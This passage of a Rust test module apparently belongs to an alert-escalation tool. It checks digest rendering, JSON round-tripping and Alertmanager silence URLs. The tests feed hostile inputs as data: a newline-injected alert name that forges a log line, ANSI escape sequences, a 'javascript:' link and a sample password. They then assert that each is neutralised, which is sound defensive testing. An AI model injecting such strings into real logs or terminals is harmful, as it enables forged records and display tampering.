        assert_eq!(shown.for_humans(), shown);
        let text = render_text(&e);
        assert!(!text.contains("javascript:"), "{text}");
        assert!(!text.contains("hunter2"), "{text}");
    }

    #[test]
    fn a_digest_lists_a_bounded_number_and_counts_them_all() {
        let escalations: Vec<Escalation> = (0..1000)
            .map(|n| {
                let mut e = sample();
                e.incident_id = n;
                e.reason = EscalationReason::Novel;
                e.alertname = Some(if n % 10 == 0 {
                    "Rare\nForged: line".into()
                } else {
                    "Common".into()
                });
                e.summary = format!("novel: no recipe handles alert {n}\u{1b}[2J");
                e
            })
            .collect();
        let digest = Digest::new(
            7,
            EscalationReason::Novel,
            &escalations,
            sample().created_at,
        );
        assert_eq!(digest.count, 1000);
        assert_eq!(digest.incidents.len(), 1000);
        assert_eq!(digest.by_alertname["Common"], 900);
        assert_eq!(digest.by_alertname["Rare\\nForged: line"], 100);
        assert_eq!(digest.by_host["web1"], 1000);
        let text = render_digest_text(&digest);
        assert!(text.starts_with("digest #7: 1000 incident(s) escalated (novel): Common ×900, Rare\\nForged: line ×100\n"), "{text}");
        assert_eq!(text.matches("\n  #").count(), DIGEST_LISTED, "{text}");
        assert!(text.contains("… and 950 more"), "{text}");
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(!text.lines().any(|l| l.starts_with("Forged")), "{text}");
        assert!(text.len() < 16 * 1024, "{} bytes", text.len());
    }

    #[test]
    fn escalation_round_trips_through_json_with_snake_case_reason() {
        let e = hostile();
        let json = serde_json::to_value(&e).unwrap();
        assert_eq!(json["reason"], "verify_failed");
        let back: Escalation = serde_json::from_value(json).unwrap();
        assert_eq!(back, e);
        for reason in EscalationReason::ALL {
            let text = serde_json::to_string(&reason).unwrap();
            assert_eq!(text, format!("\"{}\"", reason.as_str()));
        }
    }

    #[test]
    fn silence_url_matches_the_alertmanager_ui_encoding() {
        let labels: BTreeMap<String, String> = [
            ("alertname", "DiskFull"),
            ("instance", "web1:9100"),
            ("path", "/var \"x\"\n"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        let url = silence_url("http://am.example:9093/", &labels);
        assert_eq!(
            url,
            "http://am.example:9093/#/silences/new?filter=\
             %7Balertname%3D%22DiskFull%22%2C%20instance%3D%22web1%3A9100%22%2C%20\
             path%3D%22%2Fvar%20%5C%22x%5C%22%5Cn%22%7D"
        );
        assert_eq!(
            silence_url("http://am:9093", &BTreeMap::new()),
            "http://am:9093/#/silences/new?filter="
        );
    }
}
